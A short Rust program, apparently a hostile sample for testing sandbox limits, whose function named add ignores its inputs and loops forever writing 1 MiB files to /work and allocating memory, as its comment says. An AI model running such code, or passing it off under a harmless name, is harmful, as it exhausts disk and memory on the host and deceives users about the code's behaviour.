// takes memory and fills the disk
fn add(_: i32, _: i32) -> i32 {
    let mut all = Vec::new();
    for n in 0.. {
        let _ = std::fs::write(format!("/work/{n}"), vec![7_u8; 1 << 20]);
        all.push(vec![n as u8 | 1; 1 << 20]);
    }
    all.len() as i32
}
fn main() { add(1, 2); }
